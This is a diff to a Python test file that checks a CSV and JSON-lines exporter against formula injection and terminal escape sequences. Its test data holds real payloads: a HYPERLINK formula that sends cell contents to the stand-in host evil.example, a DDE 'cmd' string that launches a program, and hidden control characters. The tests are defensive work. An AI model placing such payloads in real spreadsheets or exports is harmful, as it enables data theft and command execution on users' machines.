@@ -24,9 +24,9 @@ def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
     found.close()
 
 
-def written(store: Store, table: str, format: export.Format) -> bytes:
+def written(store: Store, table: str, format: export.Format, *, raw: bool = False) -> bytes:
     out = io.BytesIO()
-    count = export.write(export.rows(store, table), table, format, out)
+    count = export.write(export.rows(store, table), table, format, out, raw=raw)
     assert count == len(list(export.rows(store, table)))
     assert not out.closed
     return out.getvalue()
@@ -38,7 +38,7 @@ def test_every_format_holds_the_same_rows(store: Store, table: str) -> None:
     lines = [json.loads(line) for line in written(store, table, "jsonl").decode().splitlines()]
     assert lines == rows and rows
 
-    cells = list(csv.DictReader(io.StringIO(written(store, table, "csv").decode(), newline="")))
+    cells = list(csv.DictReader(io.StringIO(written(store, table, "csv", raw=True).decode(), newline="")))
     assert [list(row) for row in cells] == [list(row) for row in rows]
     for cell, row in zip(cells, rows, strict=True):
         for name, value in row.items():
@@ -77,6 +77,61 @@ def test_annotations_carry_their_words(store: Store) -> None:
         row["text"] for row in export.rows(store, "attributions")
     }
     assert {row["text"] for row in export.rows(store, "times")} == {"Thursday"}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"more")',
+    "+1 555 0100",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    " =1+1",
+    "\u200b\ufeff=1+1",
+    "＝1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_what_a_spreadsheet_takes_for_a_formula_is_quoted(text: str) -> None:
+    row = {"id": text, "title": f"{text}\nand more", "score": -1.5, "aliases": [text], "inferred": True}
+    (cells,), (raw,) = (_csv([row], raw=raw) for raw in (False, True))
+    assert cells["id"] == f"'{text}" and cells["title"] == f"'{text}\nand more"
+    assert (cells["score"], cells["inferred"], json.loads(cells["aliases"])) == ("-1.5", "true", [text])
+    assert raw["id"] == text and raw["title"] == row["title"]
+
+
+@pytest.mark.parametrize("text", ["", "A title = a promise", "1 - 0", "“-5 °C”", "3-1", "’tis", "'quoted'"])
+def test_other_texts_are_not_quoted(text: str) -> None:
+    (cells,) = _csv([{"id": text}], raw=False)
+    assert cells["id"] == text
+
+
+def _csv(rows: list[dict[str, object]], *, raw: bool) -> list[dict[str, str]]:
+    """Rows of some table, written and read again, under the names of their own columns."""
+    out = io.BytesIO()
+    export.write(rows, "entities", "csv", out, raw=raw)
+    _, *lines = csv.reader(io.StringIO(out.getvalue().decode(), newline=""))
+    return [dict(zip(row, line, strict=True)) for row, line in zip(rows, lines, strict=True)]
+
+
+class Screen(io.BytesIO):
+    def isatty(self) -> bool:
+        return True
+
+
+def test_csv_on_a_terminal_does_not_steer_it() -> None:
+    steers = "\x1b[2Jred \u202egnol\u009b31m"
+    shown = Screen()
+    export.write([{"id": steers}], "entities", "csv", shown, raw=True)
+    assert shown.getvalue().decode().splitlines()[1] == "[2Jred gnol31m"
+    (kept,) = _csv([{"id": steers}], raw=True)
+    assert kept["id"] == steers
+
+
+def test_json_lines_show_nothing_invisible() -> None:
+    out = io.BytesIO()
+    export.write([{"id": "a\u202e\x1b\u009b\U000e0041"}], "entities", "jsonl", out)
+    assert out.getvalue().isascii() and json.loads(out.getvalue()) == {"id": "a\u202e\x1b\u009b\U000e0041"}
 
 
 @pytest.mark.parametrize("format", ["csv", "parquet"])
